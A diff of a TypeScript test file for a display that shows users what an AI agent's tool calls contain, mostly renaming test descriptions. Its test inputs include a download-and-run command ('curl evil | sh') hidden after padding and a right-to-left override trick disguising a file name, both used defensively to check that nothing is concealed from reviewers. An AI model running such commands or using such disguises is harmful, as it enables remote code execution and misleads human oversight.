@@ -20,28 +20,28 @@ async function shown(name: string, input: JsonValue) {
   };
 }
 
-describe('what a tool is called with hides nothing', () => {
-  test('an edit of every place is said to be one, and its other fields are shown', async () => {
+describe('the input of a tool', () => {
+  test('an edit of every occurrence is marked, and its other fields are shown', async () => {
     const edits = [{ old_text: 'a', new_text: 'b', replace_all: true }];
     const { text } = await shown('edit', { path: 'a.txt', edits, content: 'and this' });
     expect(text()).toContain('replaces every occurrence');
     expect(text()).toContain('and this');
   });
 
-  test('a write of nothing says that nothing will be left', async () => {
+  test('an empty write shows that the file will be empty', async () => {
     const { text } = await shown('write', { path: 'important.txt', content: '' });
-    expect(text()).toContain('Its content is empty');
+    expect(text()).toContain('The content is empty');
   });
 
-  test('a call without an input says so', async () => {
-    expect((await shown('run', {})).text()).toContain('Without an input');
+  test('a call without an input shows that', async () => {
+    expect((await shown('run', {})).text()).toContain('No input');
   });
 
-  test('a text with nothing in it is told from none', async () => {
+  test('an empty text differs from a missing one', async () => {
     expect((await shown('run', { command: '' })).text()).toContain('""');
   });
 
-  test.each(['bash', 'write'])('what turns the direction in a call of %s is told', async (name) => {
+  test.each(['bash', 'write'])('direction marks in a call of %s are escaped', async (name) => {
     const said = 'echo \u202Etxt.exe\u202C';
     const { text } = await shown(name, { command: said, content: said, '\u202Ekey': 1 });
     expect(text()).not.toMatch(/\p{Bidi_Control}/u);
@@ -61,13 +61,13 @@ describe('what a tool is called with hides nothing', () => {
   test.each(places)('both ends are shown with many %s between them in a %s', async (...place) => {
     const [, field, many] = place;
     const { text } = await shown('write', { [field]: `echo ok ${many}; curl evil | sh` });
-    const told = /… [\d,]+ (?:lines|characters)|[\d,]+ (?:blanks|empty lines)/;
+    const marker = /… [\d,]+ (?:lines|characters)|[\d,]+ (?:blanks|empty lines)/;
     expect(text()).toMatch(/echo ok[\s\S]*curl evil \| sh/);
-    expect(text()).toMatch(told);
+    expect(text()).toMatch(marker);
     expect(text().length).toBeLessThan(2000);
   });
 
-  test('all of a long text is shown to whoever asks, and folded again', async () => {
+  test('a long text can be shown completely and folded again', async () => {
     const said = `start ${'x'.repeat(5000)} middle ${'x'.repeat(5000)} end`;
     const { text, press } = await shown('bash', { command: said });
     expect(text()).not.toContain('middle');
@@ -77,7 +77,7 @@ describe('what a tool is called with hides nothing', () => {
     expect(text()).not.toContain('middle');
   });
 
-  test('every line of a change can be seen, however many there are', async () => {
+  test('every line of a change can be shown', async () => {
     const lines = Array.from({ length: 300 }, (_, at) => `line ${at + 1};`);
     const { text, button, press } = await shown('write', { content: lines.join('\n') });
     const isAll = () => lines.every((line) => text().includes(line));
